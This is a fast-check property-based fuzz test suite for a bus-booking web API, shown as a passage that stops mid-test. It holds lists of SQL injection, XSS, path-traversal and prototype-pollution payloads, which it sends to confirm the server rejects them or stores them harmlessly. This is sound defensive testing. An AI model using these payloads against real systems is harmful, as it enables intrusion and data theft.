// Hostile input: property-based fuzzing (fast-check) of every endpoint the app serves, public and staff (the
// staff ones with a valid token). Whatever arrives — malformed JSON, wrong types, 100 KB strings, RTL and
// zero-width characters, SQL and HTML injection, odd query strings and path ids, fake and oversized
// multipart parts — the answer is below 500 and, when it is an error, JSON with a string `message`. After
// the storm the server is healthy and the database has all its tables and data. Traveller-typed HTML is
// stored and answered verbatim, as JSON strings, and the ticket PDF shows it as plain text. Staff of a role
// a route does not allow are refused (403) whatever they send.
//
// FUZZ_SCALE=10 multiplies the number of runs; FUZZ_SEED=<n> replays a run (fast-check prints the seed).
import { execFileSync } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import fc from 'fast-check';
import type { LightMyRequestResponse } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { resources } from '../../shared/registry/index.ts';
import {
  futureDate,
  makeReferences,
  makeTrip,
  newUserBody,
  type PlainResource,
  type References,
  validBody,
} from './helpers/fixtures.ts';
import {
  type Endpoint,
  type FormPart,
  formData,
  listEndpoints,
  registryRoutes,
} from './helpers/endpoints.ts';
import { client, dialects, staffToken } from './helpers/test-app.ts';
import { can, type Role } from '../../shared/roles.ts';
import { useTestApp } from './helpers/use-test-app.ts';

const SCALE = Number(process.env.FUZZ_SCALE ?? 1) || 1;
const SEED = process.env.FUZZ_SEED ? Number(process.env.FUZZ_SEED) : undefined;
/** At least 10,000 requests over the dialects that run (so SQLite alone does all of them). */
const PER_DIALECT_TARGET = Math.ceil(10_000 / dialects.length) * SCALE;
/** Runs of each property, as shares of the per-dialect target; the fixed checks add a few hundred more. */
const runs = (share: number) => Math.ceil(PER_DIALECT_TARGET * share);

let totalRequests = 0;

// --- Hostile values. ---

const SQL_INJECTION = [
  "' OR 1=1 --",
  "'; DROP TABLE trips; --",
  '"; DROP TABLE users; --',
  "' UNION SELECT password_hash, email FROM users --",
  '1; SELECT pg_sleep(10); --',
  "' OR '1'='1' /*",
  "%' OR '%'='",
  "\\'; DELETE FROM bookings; --",
  "1' AND (SELECT count(*) FROM sqlite_master) > 0 --",
  "admin'--",
  '$1',
  '?',
];
const HTML_INJECTION = [
  '<script>alert(document.cookie)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg onload=alert(1)>',
  "javascript:alert('x')",
  '<iframe src="//evil.example"></iframe>',
  '{{constructor.constructor("alert(1)")()}}',
  '${7*7}',
  '</textarea><script>alert(1)</script>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
];
const UNICODE = [
  '\u200F',
  '\u202E',
  '\u200B\u200C\u200D\u2060\uFEFF',
  'سفر\u202Egnp.exe',
  '\u2066\u2067\u2068\u2069',
  'مرحبا بالعالم',
  '٠٩١٢٣٤٥٦٧٨',
  '۰۹۱۲۳۴۵۶۷۸',
  '𝕽𝖎𝖍𝖑𝖆 😀 👨‍👩‍👧‍👦',
  '\uD800',
  '\uDFFF\uD800',
  '\u0000',
  'a\u0000b',
  '\r\n\t\u000b\u000c',
  '\u0085\u2028\u2029',
  'Ａｈｍｅｄ',
  'İı',
  'ﷺ',
  '\u0301\u0301\u0301',
];
const PATHS = [
  '../',
  '../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '%00',
  '%2e%2e%2f',
  '/',
  '//',
  '.',
  '..',
  '%',
  '%zz',
  ';',
  '*',
  '~',
];
const ODD = [
  '',
  ' ',
  'null',
  'undefined',
  'NaN',
  'Infinity',
  '-1',
  '0',
  '1e309',
  '-0',
  '9007199254740993',
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  '[object Object]',
  'true',
  '0x10',
  '2026-02-30',
  '9999-99-99',
  '9:00 am',
  'ASC',
  '{"__proto__":{"isAdmin":true}}',
  '{"constructor":{"prototype":{"isAdmin":true}}}',
  '[1e308, -0, 1.5, "2"]',
];
const ALL_STRINGS = [...SQL_INJECTION, ...HTML_INJECTION, ...UNICODE, ...PATHS, ...ODD];

const huge = fc
  .tuple(
    fc.constantFrom(...ALL_STRINGS.filter((s) => s.length > 0)),
    fc.integer({ min: 100_000, max: 160_000 }),
  )
  .map(([unit, length]) => unit.repeat(Math.ceil(length / unit.length)).slice(0, length));

const smallString = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...ALL_STRINGS) },
  { weight: 2, arbitrary: fc.string({ unit: 'grapheme', maxLength: 40 }) },
  {
    weight: 1,
    arbitrary: fc.string({
      unit: fc.integer({ min: 0, max: 0xffff }).map((c) => String.fromCharCode(c)),
      maxLength: 20,
    }),
  },
  {
    weight: 2,
    arbitrary: fc
      .tuple(fc.constantFrom(...ALL_STRINGS), fc.string({ maxLength: 10 }), fc.constantFrom(...ALL_STRINGS))
      .map((parts) => parts.join('')),
  },
);
const hostileString = fc.oneof({ weight: 30, arbitrary: smallString }, { weight: 1, arbitrary: huge });

const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 6, arbitrary: hostileString },
  { weight: 1, arbitrary: fc.integer() },
  { weight: 1, arbitrary: fc.double() },
  {
    weight: 1,
    arbitrary: fc.constantFrom(1e308, -1, 0, 1.5, 2 ** 31, 2 ** 63, -0, Number.MAX_SAFE_INTEGER + 2),
  },
  { weight: 1, arbitrary: fc.boolean() },
  { weight: 1, arbitrary: fc.constant(null) },
  { weight: 1, arbitrary: fc.array(smallString, { maxLength: 4 }) },
  { weight: 1, arbitrary: fc.array(fc.integer({ min: -5, max: 200 }), { maxLength: 5 }) },
  { weight: 1, arbitrary: fc.dictionary(smallString, smallString, { maxKeys: 3 }) },
  { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 3 }) },
);

/**
 * Percent-encodes like encodeURIComponent; a lone surrogate (which UTF-8 cannot carry) goes out as the
 * bytes ED A0 80, an invalid UTF-8 sequence, which is one more thing the server must survive.
 */
const encode = (value: string) =>
  value
    .split(/([\uD800-\uDFFF])/)
    .map((piece) => (/^[\uD800-\uDFFF]$/.test(piece) ? '%ED%A0%80' : encodeURIComponent(piece)))
    .join('');

/** Every string inside a document, however deep. */
const stringsIn = (value: unknown): string[] =>
  typeof value === 'string'
    ? [value]
    : value && typeof value === 'object'
      ? Object.values(value).flatMap(stringsIn)
      : [];

// --- Answers. ---

interface Sent {
  method: string;
  url: string;
  what: string;
}

/** The invariants every answer keeps; throws (so fast-check shrinks and reports) when one breaks. */
function checkAnswer(response: LightMyRequestResponse, sent: Sent, endpoint?: Endpoint) {
  totalRequests++;
  const where = `${sent.method} ${sent.url.slice(0, 200)} [${sent.what}] → ${response.statusCode} ${response.body.slice(0, 300)}`;
  if (response.statusCode >= 500) throw new Error(`5xx: ${where}`);
  if (/root:x:0:0|SQLite format 3|\$argon2id\$/.test(response.body)) throw new Error(`leak: ${where}`);
  const type = String(response.headers['content-type'] ?? '');
  // A path that normalises outside /api (raw "../") may be answered by the public site's pages.
  const pathname = new URL(sent.url, 'http://localhost').pathname;
  if (!pathname.startsWith('/api/') && type.startsWith('text/html')) return;
  const expectsJson = response.statusCode >= 400 || !endpoint || endpoint.answer === 'json';
  if (!expectsJson) return;
  if (!type.startsWith('application/json')) throw new Error(`not JSON (${type}): ${where}`);
  let body: unknown;
  try {
    body = JSON.parse(response.body);
  } catch {
    throw new Error(`unparsable JSON: ${where}`);
  }
  if (response.statusCode >= 400) {
    const message = (body as { message?: unknown } | null)?.message;
    if (typeof message !== 'string' || message.length === 0) throw new Error(`no message: ${where}`);
    if (/SQLITE_|syntax error|violates|relation "|duplicate key|node_modules|at \S+\.ts:\d+/.test(message)) {
      throw new Error(`internal details in message: ${where}`);
    }
  }
}

const PLAIN: Record<string, PlainResource> = {
  companies: 'companies',
  buses: 'buses',
  employees: 'employees',
  positions: 'positions',
  origins: 'origins',
  destinations: 'destinations',
  prices: 'prices',
  trips: 'trips',
  reports: 'reports',
  lostItems: 'lostItems',
  enquiries: 'enquiries',
};

describe.each(dialects)('hostile input (%s)', (dialect) => {
  const t = useTestApp(dialect, {
    env: {
      LOGIN_RATE_LIMIT_PER_IP: '1000000',
      LOGIN_RATE_LIMIT_PER_EMAIL: '1000000',
      LOOKUP_RATE_LIMIT_PER_IP: '1000000',
      BOOKING_RATE_LIMIT_PER_IP: '1000000',
      PUBLIC_FORMS_PER_HOUR: '1000000',
    },
  });
  let refs: References;
  let endpoints: Endpoint[];
  let fuzzTrip: { _id: string; trip_ticket_priceId: { price: number } };
  let sentinel: { trip: Record<string, unknown>; booking: Record<string, unknown> };
  let tablesBefore: string[];
  /** Ids of real documents, so that fuzzed paths sometimes reach the code behind a found document. */
  let realIds: string[];
  let dialectRequests = 0;
  /** How many answers had each status: shows how deep the fuzzing got (2xx means it passed validation). */
  const statuses = new Map<number, number>();

  const tables = async () =>
    (await t.database.db.introspection.getTables()).map((table) => table.name).sort();

  beforeAll(async () => {
    endpoints = listEndpoints(t.app);

    // The sentinel: a trip with a booking whose ids the fuzzer never sees; it must come out untouched.
    const kept = await makeTrip(t, t.token, { date: futureDate(6) });
    const booked = await client(t).post('/api/bookings/createBooking', {
      tripId: kept.trip._id,
      seats: [7],
      passengerInfo: { firstName: 'Sentinel', lastName: 'Passenger', phone: '0911000111' },
      totalTicketPrice: kept.trip.trip_ticket_priceId.price,
      bookingDate: new Date().toISOString(),
    });
    expect(booked.statusCode, booked.body).toBe(201);
    sentinel = {
      trip: (await t.staff.get(`/api/trips/getTrip/${kept.trip._id}`)).json(),
      booking: (await t.staff.get(`/api/bookings/getBooking/${booked.json().booking._id}`)).json(),
    };

    refs = await makeReferences(t, t.token);
    fuzzTrip = (await makeTrip(t, t.token, { seats: 100, date: futureDate(8) })).trip;
    const lost = await client(t).post('/api/lostItems/createLostItem', validBody('lostItems', refs));
    const enquiry = await client(t).post('/api/enquiries/createEnquiry', validBody('enquiries', refs));
    const colleague = await t.staff.post('/api/auth/register', newUserBody());
    const report = await t.staff.post('/api/reports/createReport', validBody('reports', refs));
    const booking = await client(t).post('/api/bookings/createBooking', {
      tripId: fuzzTrip._id,
      seats: [1],
      passengerInfo: { firstName: 'Fuzz', lastName: 'Target', phone: '0912000222' },
    });
    realIds = [
      ...Object.values(refs).map((doc) => doc._id),
      fuzzTrip._id,
      lost.json()._id,
      enquiry.json()._id,
      colleague.json()._id,
      report.json()._id,
      booking.json().booking._id,
    ];
    expect(realIds.every((id) => typeof id === 'string')).toBe(true);
    tablesBefore = await tables();
    expect(tablesBefore).toEqual(expect.arrayContaining(['trips', 'bookings', 'users', 'booking_seats']));
  });

  afterAll(async () => {
    const byStatus = [...statuses].sort(([a], [b]) => a - b).map(([status, n]) => `${status}×${n}`);
    console.log(
      `fuzz (${dialect}): ${dialectRequests} requests (${byStatus.join(' ')}); all dialects so far: ${totalRequests}`,
    );
  });

  /** Sends one request and checks the answer. */
  async function send(
    endpoint: Endpoint | undefined,
    request: {
      method: string;
      url: string;
      payload?: string | Buffer;
      headers?: Record<string, string>;
      auth?: boolean;
      cookies?: Record<string, string>;
    },
    what: string,
  ) {
    const auth = request.auth ?? endpoint?.access !== 'public';
    const response = await t.app.inject({
      method: request.method as 'GET',
      url: request.url,
      payload: request.payload,
      cookies: request.cookies,
      headers: { ...(auth ? { authorization: `Bearer ${t.token}` } : {}), ...request.headers },
    });
    dialectRequests++;
    statuses.set(response.statusCode, (statuses.get(response.statusCode) ?? 0) + 1);
    checkAnswer(response, { method: request.method, url: request.url, what }, endpoint);
    return response;
  }

  const assertProperty = <T>(arbitrary: fc.Arbitrary<T>, numRuns: number, run: (value: T) => Promise<void>) =>
    fc.assert(
      fc.asyncProperty(arbitrary, async (value) => {
        await run(value);
      }),
      { numRuns, seed: SEED, interruptAfterTimeLimit: 150_000 },
    );

  const withBody = () => endpoints.filter((e) => e.hasBody);
  const withParam = () => endpoints.filter((e) => /:id|:name|\*/.test(e.route));
  const gets = () => endpoints.filter((e) => e.method === 'GET');

  /** A body that would be valid for the endpoint (fresh unique values), or {} when there is none. */
  function validFor(endpoint: Endpoint): Record<string, unknown> {
    for (const def of resources) {
      const name = PLAIN[def.name];
      if (!name) continue;
      if (
        endpoint.route === `${def.api.base}/${def.api.create}` ||
        endpoint.route === `${def.api.base}/${def.api.update}/:id`
      ) {
        return validBody(name, refs);
      }
    }
    if (endpoint.route === '/api/auth/register' || endpoint.route === '/api/auth/updateUser/:id')
      return newUserBody();
    if (endpoint.route === '/api/auth/login')
      return { email: 'nobody@rihla.test', password: 'not-the-password' };
    // A current password that is never right: the staff token's own password stays as it is.
    if (endpoint.route === '/api/auth/changePassword')
      return {
        current_password: 'not-the-current-one',
        password: 'dune-camel-lantern-48',
        password_confirm: 'dune-camel-lantern-48',
      };
    if (endpoint.route === '/api/bookings/cancelBooking/:id')
      return { ticketId: '1234567890123', phone: '0912000222' };
    if (endpoint.route === '/api/bookings/createBooking') {
      return {
        tripId: fuzzTrip._id,
        seats: [2],
        passengerInfo: { firstName: 'Amira', lastName: 'Salih', phone: '0912345678' },
        totalTicketPrice: fuzzTrip.trip_ticket_priceId.price,
        bookingDate: new Date().toISOString(),
      };
    }
    return {};
  }

  /** The URL that reads back what a create endpoint made, for the generic resources and staff accounts. */
  function readRoute(endpoint: Endpoint): ((id: string) => string) | undefined {
    const def = resources.find((d) => d.api.create && endpoint.route === `${d.api.base}/${d.api.create}`);
    if (!def?.api.one || def.name === 'bookings') return undefined;
    return (id) => `${def.api.base}/${def.api.one}/${id}`;
  }

  const pathId = fc.oneof(
    { weight: 2, arbitrary: fc.constant(undefined) },
    {
      weight: 3,
      arbitrary: fc.nat().map((i) => realIds[i % realIds.length]),
    },
    { weight: 3, arbitrary: smallString.map((s) => encode(s)) },
    { weight: 1, arbitrary: fc.integer({ min: 65, max: 5000 }).map((n) => 'a'.repeat(n)) },
  );

  it('reads every endpoint from the app', () => {
    expect(endpoints.length).toBeGreaterThan(75);
    expect(withBody().length).toBeGreaterThan(25);
    expect(gets().some((e) => e.access === 'staff')).toBe(true);
  });

  it('JSON bodies: valid ones with fields replaced by hostile values, wrong types, arbitrary JSON', async () => {
    // Mostly a valid body with one to three fields replaced, by anything or by hostile text (which often
    // passes validation, so it is stored and read back); sometimes a bare value instead of an object.
    const body = fc.tuple(
      fc.constantFrom('bare', 'any', 'any', 'text', 'text'),
      fc.array(hostileValue, { minLength: 1, maxLength: 3 }),
      fc.array(smallString, { minLength: 1, maxLength: 3 }),
      fc.nat(),
    );
    await assertProperty(
      fc.tuple(
        fc.constantFrom(...withBody()),
        body,
        pathId,
        fc.option(fc.dictionary(smallString, hostileValue, { maxKeys: 2 })),
      ),
      runs(0.34),
      async ([endpoint, [mode, values, texts, pick], id, extra]) => {
        let payload: unknown = values[0];
        if (mode !== 'bare') {
          const valid = validFor(endpoint);
          const keys = Object.keys(valid);
          const mutated: Record<string, unknown> = { ...valid, ...(extra ?? {}) };
          (mode === 'text' ? texts : values).forEach((value, i) => {
            mutated[keys.length ? keys[(pick + i) % keys.length] : `field${i}`] = value;
          });
          payload = mutated;
        }
        const response = await send(
          endpoint,
          {
            method: endpoint.method,
            url: endpoint.url(id),
            payload: JSON.stringify(payload),
            headers: { 'content-type': 'application/json' },
          },
          'json body',
        );
        // Whatever was stored reads back exactly as it was answered: hostile text is data, kept verbatim. The
        // read may add what is worked out beside the stored record (a trip's paymentInstructions, issue 24).
        const readBack = response.statusCode === 201 ? readRoute(endpoint) : undefined;
        if (readBack) {
          const created = response.json();
          const again = await send(
            undefined,
            { method: 'GET', url: readBack(created._id), auth: true },
            'read back',
          );
          const { paymentInstructions: _worked, ...stored } = again.json();
          expect(stored).toEqual(created);
        }
      },
    );
  }, 180_000);

  it('staff of a role a route does not allow get 403 whatever they send; a role it allows never 401 or 403', async () => {
    const roles: Role[] = ['manager', 'cashier', 'conductor'];
    const tokens = {} as Record<Role, string>;
    for (const role of roles)
      tokens[role] = await staffToken(
        t,
        { email: `${role}.fuzz@rihla.test`, password: 'dune-camel-lantern-48' },
        role,
      );
    const staffEndpoints = endpoints.filter((e) => e.access === 'staff');
    await assertProperty(
      fc.tuple(
        fc.constantFrom(...staffEndpoints),
        fc.constantFrom(...roles),
        fc.option(fc.dictionary(smallString, hostileValue, { maxKeys: 3 })),
        // Ids the router takes (the odd ones it refuses before any route, 414 or 400, are the next test's).
        fc.oneof(
          fc.constant(undefined),
          fc.nat().map((i) => realIds[i % realIds.length]),
          fc.stringMatching(/^[\w-]{1,64}$/),
        ),
      ),
      runs(0.05),
      async ([endpoint, role, body, id]) => {
        const response = await send(
          endpoint,
          {
            method: endpoint.method,
            url: endpoint.url(id),
            payload: endpoint.hasBody ? JSON.stringify(body ?? validFor(endpoint)) : undefined,
            headers: {
              authorization: `Bearer ${tokens[role]}`,
              ...(endpoint.hasBody ? { 'content-type': 'application/json' } : {}),
            },
            auth: false,
          },
          `as a ${role}`,
        );
        const what = `${role} ${endpoint.method} ${endpoint.route}: ${response.body.slice(0, 200)}`;
        if (!endpoint.capability) throw new Error(`no capability known: ${what}`);
        if (!can(role, endpoint.capability)) expect(response.statusCode, what).toBe(403);
        // A role the route allows is never refused for its role; a conductor may still be refused a trip that
        // is not at the door (yesterday's, today's or tomorrow's), which says so by its code.
        else if (response.statusCode === 403) expect(response.json().code, what).toBe('NOT_DOOR_TRIP');
        else expect(response.statusCode, what).not.toBe(401);
      },
    );
  }, 180_000);

  // Found by the property below: the multipart parser's own error for a garbled form was a 500.
  it('importStatement answers a garbled multipart body with 400, not 500', async () => {
    const endpoint = endpoints.find((e) => e.route === '/api/payments/importStatement')!;
    for (const payload of [
      '{',
      '--x\r\nContent-Disposition: form-data; name="statement"; filename="s.csv"\r\n\r\nDate',
    ]) {
      const response = await t.app.inject({
        method: 'POST',
        url: endpoint.url(),
        payload,
        headers: { authorization: `Bearer ${t.token}`, 'content-type': 'multipart/form-data; boundary=x' },
      });
      expect(response.statusCode, `${JSON.stringify(payload)}: ${response.body}`).toBe(400);
      expect(response.json().message).toBeTruthy();
    }
  });

  it('odd query strings on every GET endpoint', async () => {
    const fieldNames = [...new Set(resources.flatMap((def) => Object.keys(def.fields)))];
    const key = fc.oneof(
      {
        weight: 4,
        arbitrary: fc.constantFrom(
          '_start',
          '_end',
          '_sort',
          '_order',
          'q',
          'id',
          'origin',
          'destination',
          'date',
          'ticketId',
          'phone',
          '__proto__',
          'constructor',
          'hasOwnProperty',
          '_sort[]',
          'id[]',
          'a[b][c]',
          '',
        ),
      },
      { weight: 3, arbitrary: fc.constantFrom(...fieldNames) },
      {
        weight: 2,
        arbitrary: fc.constantFrom(...fieldNames).chain((f) => fc.constantFrom(`${f}_gte`, `${f}_lte`)),
      },
      { weight: 1, arbitrary: smallString },
    );
    const value = fc.oneof(
      { weight: 4, arbitrary: hostileString },
      {
        weight: 2,
        arbitrary: fc.constantFrom(
          '-1',
          '1e9',
          '0',
          '25',
          'ASC',
          'desc',
          'sideways',
          '__proto__',
          '_id',
          'id',
          'trip_date',
        ),
      },
      {
        weight: 1,
        arbitrary: fc.nat().map((i) => realIds[i % realIds.length]),
      },
    );
    const rawQueries = [
      '%',
      '%zz',
      '&&&',
      '=&=',
      'a=%E0%A4%A',
      '_sort=__proto__&_order=sideways',
      '_start=-1&_end=-5',
      '_start=10&_end=1',
      '_start=1e400',
      '__proto__[admin]=1',
      'constructor[prototype][admin]=1',
      `${'id=x&'.repeat(1200)}`,
      `q=${'%F0%9F%98%80'.repeat(300)}`,
    ];
    await assertProperty(
      fc.tuple(
        fc.constantFrom(...gets()),
        fc.oneof(
          {
            weight: 8,
            arbitrary: fc
              .array(fc.tuple(key, value), { maxLength: 6 })
              .map((pairs) => pairs.map(([k, v]) => `${encode(k)}=${encode(v)}`).join('&')),
          },
          { weight: 1, arbitrary: fc.constantFrom(...rawQueries) },
        ),
        pathId,
      ),
      runs(0.24),
      async ([endpoint, query, id]) => {
        await send(endpoint, { method: 'GET', url: `${endpoint.url(id)}?${query}` }, 'query');
      },
    );
  }, 180_000);

  it('odd ids in paths: very long, traversal, NUL, encoded and raw', async () => {
    const raw = fc.constantFrom(
      '../',
      '../../../../etc/passwd',
      '..%2F..%2F..%2Fetc%2Fpasswd',
      '%2e%2e%2f%2e%2e%2f',
      '%00',
      'x%00.png',
      '..;/',
      '%252e%252e%252f',
      '%C0%AE%C0%AE%2F',
      '%E2%80%AE',
      '%',
      'a/b/c',
      '.',
    );
    await assertProperty(
      fc.tuple(fc.constantFrom(...withParam()), fc.oneof(pathId, raw)),
      runs(0.14),
      async ([endpoint, id]) => {
        const payload = endpoint.hasBody ? JSON.stringify(validFor(endpoint)) : undefined;
        await send(
          endpoint,
          {
            method: endpoint.method,
            url: endpoint.url(id ?? 'x'),
            payload,
            headers: payload ? { 'content-type': 'application/json' } : {},
          },
          'path id',
        );
      },
    );
  }, 180_000);

  it('malformed bodies, wrong content types, hostile headers and cookies', async () => {
    const rawBody = fc.oneof(
      fc.constantFrom(
        '{',
        '{"a":',
        '[1,2',
        'nul',
        '{"a":1,}',
        "{'a':1}",
        '{"a":NaN}',
        '{"a":1e400}',
        '{"__proto__":{"isAdmin":true}}',
        '{"constructor":{"prototype":{"isAdmin":true}}}',
        '\u0000',
        '\uFEFF{}',
        '"just a string"',
        '12345',
        'true',
        '[]',
        '[{}]',
        '{"a":"\\ud800"}',
        '{"a":"\\u0000"}',
        '['.repeat(50_000),
        `{"a":${'['.repeat(5000)}${']'.repeat(5000)}}`,
        `{"a":"${'x'.repeat(1_100_000)}"}`,
      ),
      hostileString,
    );
    const contentType = fc.constantFrom(
      'application/json',
      'application/json; charset=utf-16',
      'application/json; charset=latin1',
      'text/plain',
      'application/x-www-form-urlencoded',
      'application/xml',
      'multipart/form-data',
      'multipart/form-data; boundary=',
      'multipart/form-data; boundary=x',
      'application/octet-stream',
      'image/png',
      '',
      'application/json, text/html',
      '*/*',
    );
    const authorization = fc.oneof(
      fc.constant(undefined),
      hostileString.map((s) => `Bearer ${s}`),
      fc.constantFrom('Bearer', 'Bearer  ', 'bearer x.y.z', 'Basic YWRtaW46YWRtaW4=', 'Bearer a.b.c.d.e'),
    );
    await assertProperty(
      fc.tuple(fc.constantFrom(...endpoints), rawBody, contentType, authorization, fc.option(smallString)),
      runs(0.1),
      async ([endpoint, body, type, auth, cookie]) => {
        const headers: Record<string, string> = type ? { 'content-type': type } : {};
        if (auth !== undefined)
          headers.authorization = auth.replace(/[\r\n]/g, ' ').replace(/[^\t\x20-\x7e\x80-\xff]/g, '?');
        await send(
          endpoint,
          {
            method: endpoint.method,
            url: endpoint.url(),
            payload: endpoint.method === 'GET' || endpoint.method === 'DELETE' ? undefined : body,
            headers,
            auth: auth === undefined && endpoint.access !== 'public',
            cookies: cookie === null ? undefined : { rihla_refresh: encode(cookie) },
          },
          'raw body',
        );
      },
    );
  }, 180_000);

  it('multipart createBooking: hostile fields, fake and oversized file parts, broken forms', async () => {
    const createBooking = endpoints.find((e) => e.route === '/api/bookings/createBooking')!;
    const fieldName = fc.oneof(
      {
        weight: 3,
        arbitrary: fc.constantFrom(
          'tripId',
          'seats',
          'passengerInfo',
          'totalTicketPrice',
          'bookingDate',
          'bankakScreenshot',
        ),
      },
      {
        weight: 1,
        arbitrary: fc.constantFrom('__proto__', 'constructor', 'seats[]', 'tripId"; filename="x', ''),
      },
      { weight: 1, arbitrary: smallString.map((s) => s.replace(/[\r\n"]/g, '')) },
    );
    const magic = fc.constantFrom(
      Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
      Buffer.from([0xff, 0xd8, 0xff, 0xe0]),
      Buffer.from('RIFF\x10\x00\x00\x00WEBPVP8 ', 'latin1'),
      Buffer.from('GIF89a'),
      Buffer.from('<?php '),
      Buffer.from('<svg onload=alert(1)>'),
      Buffer.from('%PDF-1.7'),
      Buffer.alloc(0),
    );
    const fileData = fc.oneof(
      {
        weight: 20,
        arbitrary: fc
          .tuple(magic, fc.uint8Array({ maxLength: 2048 }))
          .map(([m, rest]) => Buffer.concat([m, Buffer.from(rest)])),
      },
      {
        weight: 1,
        arbitrary: fc
          .constant(null)
          .map(() => Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47]), Buffer.alloc(6 * 1024 * 1024)])),
      },
    );
    const part: fc.Arbitrary<FormPart> = fc.oneof(
      fc.record({ name: fieldName, value: hostileString }),
      fc.record({
        name: fieldName,
        filename: smallString.map((s) => s.replace(/[\r\n"]/g, '_')),
        contentType: fc.constantFrom(
          'image/png',
          'image/jpeg',
          'text/html',
          'application/x-php',
          'image/svg+xml',
          '',
        ),
        data: fileData,
      }),
    );
    const broken = fc.oneof(
      fc.constant('truncate' as const),
      fc.constant('no-boundary' as const),
      fc.constant('garbage' as const),
      fc.constant('ok' as const),
    );
    await assertProperty(
      fc.tuple(
        fc.array(part, { maxLength: 5 }),
        fc.boolean(),
        fc.integer({ min: -3, max: 120 }),
        broken,
        fc.nat(),
      ),
      runs(0.1),
      async ([parts, startValid, seat, mode, cut]) => {
        const base: FormPart[] = startValid
          ? [
              { name: 'tripId', value: fuzzTrip._id },
              { name: 'seats', value: JSON.stringify([seat]) },
              {
                name: 'passengerInfo',
                value: JSON.stringify({ firstName: 'Nour', lastName: 'Adam', phone: '0912345678' }),
              },
              { name: 'totalTicketPrice', value: String(fuzzTrip.trip_ticket_priceId.price) },
            ]
          : [];
        const form = formData([...base, ...parts]);
        let payload = form.payload;
        let headers = form.headers as Record<string, string>;
        if (mode === 'truncate') payload = payload.subarray(0, cut % Math.max(payload.length, 1));
        if (mode === 'no-boundary') headers = { 'content-type': 'multipart/form-data' };
        if (mode === 'garbage')
          payload = Buffer.concat([payload.subarray(0, cut % 200), Buffer.from('\r\n--\r\n\0\0\xff')]);
        await send(
          createBooking,
          { method: 'POST', url: createBooking.url(), payload, headers },
          `multipart ${mode}`,
        );
      },
    );
  }, 180_000);

  it('SQL injection strings in every list filter, search and create leave every table and row in place', async () => {
    const lists = endpoints.filter(
      (e) => e.method === 'GET' && !e.route.includes(':') && e.answer === 'json',
    );
    // The registry's lists search with q; the others (the payments queue, refunds) take no q and list all.
    const searchable = new Set(registryRoutes());
    for (const endpoint of lists) {
      for (const injection of SQL_INJECTION) {
        for (const query of [
          'q',
          '_sort',
          'id',
          'origin_city',
          'trip_date_gte',
          'ticketId',
          'phone',
          'origin',
          'date',
        ]) {
          const response = await send(
            endpoint,
            { method: 'GET', url: `${endpoint.url()}?${query}=${encode(injection)}` },
            'sql',
          );
          // A search for an injection string finds only documents that hold it literally ("' OR 1=1 --"
          // run as SQL would answer every row): it is a value, never SQL.
          const search = query === 'q' && searchable.has(`GET ${endpoint.route}`);
          if (response.statusCode === 200 && search && Array.isArray(response.json())) {
            for (const document of response.json()) {
              const holds = stringsIn(document).some((text) =>
                text.toLowerCase().includes(injection.toLowerCase()),
              );
              expect(holds, `${endpoint.route}?q=${injection} answered ${JSON.stringify(document)}`).toBe(
                true,
              );
            }
          }
        }
      }
    }
    for (const injection of SQL_INJECTION) {
      const created = await send(
        undefined,
        {
          method: 'POST',
          url: '/api/origins/createOrigin',
          payload: JSON.stringify({ origin_city: `${injection} ${Math.random()}` }),
          headers: { 'content-type': 'application/json' },
          auth: true,
        },
        'sql create',
      );
      expect(created.statusCode).toBe(201);
      expect(created.json().origin_city.startsWith(injection)).toBe(true);
      const login = await send(
        undefined,
        {
          method: 'POST',
          url: '/api/auth/login',
          payload: JSON.stringify({ email: `${injection}@x.io`, password: injection.padEnd(6, 'x') }),
          headers: { 'content-type': 'application/json' },
          auth: false,
        },
        'sql login',
      );
      expect([400, 401]).toContain(login.statusCode);
    }
    expect(await tables()).toEqual(tablesBefore);
  }, 120_000);

  it('traveller-typed HTML is stored and answered verbatim as JSON strings, and printed literally on the ticket', async () => {
    const firstName = '<img src=x onerror=alert(1)>';
    const lastName = '<script>alert("x")</script>';
    // A trip of its own: the fuzzer may have moved the fuzz trip to another bus.
    const { trip } = await makeTrip(t, t.token, { date: futureDate(10) });
    const created = await client(t).post('/api/bookings/createBooking', {
      tripId: trip._id,
      seats: [3],
      passengerInfo: { firstName, lastName, phone: '0915555666' },
      totalTicketPrice: trip.trip_ticket_priceId.price,
      bookingDate: new Date().toISOString(),
    });
    totalRequests++;
    dialectRequests++;
    expect(created.statusCode, created.body).toBe(201);
    expect(created.headers['content-type']).toMatch(/^application\/json/);
    expect(created.headers['x-content-type-options']).toBe('nosniff');
    const booking = created.json().booking;
    expect(booking.passengerInfo).toMatchObject({ firstName, lastName });
    expect(created.body).not.toContain('&lt;');

    const staffView = await send(
      undefined,
      { method: 'GET', url: `/api/bookings/getBooking/${booking._id}`, auth: true },
      'xss',
    );
    expect(staffView.json().passengerInfo).toMatchObject({ firstName, lastName });
    const passengers = await send(
      undefined,
      { method: 'GET', url: `/api/trips/passengers/${trip._id}`, auth: true },
      'xss',
    );
    expect(passengers.json()).toContainEqual(
      expect.objectContaining({ name: expect.stringContaining(firstName) }),
    );
    const lookup = await send(
      undefined,
      {
        method: 'GET',
        url: `/api/bookings/filterBookings?ticketId=${booking.ticketId}&phone=0915555666`,
        auth: false,
      },
      'xss',
    );
    expect(lookup.json()[0].passengerInfo).toMatchObject({ firstName, lastName });

    // The ticket, as created and as downloaded again: the name is text on the page, shown as typed.
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'rihla-fuzz-pdf-'));
    try {
      const again = await t.app.inject({
        method: 'GET',
        url: `/api/bookings/ticket?ticketId=${booking.ticketId}&phone=0915555666`,
      });
      totalRequests++;
      dialectRequests++;
      expect(again.statusCode).toBe(200);
      expect(again.headers['content-type']).toBe('application/pdf');
      for (const [name, pdf] of [
        ['created.pdf', Buffer.from(created.json().pdfBlob, 'base64')],
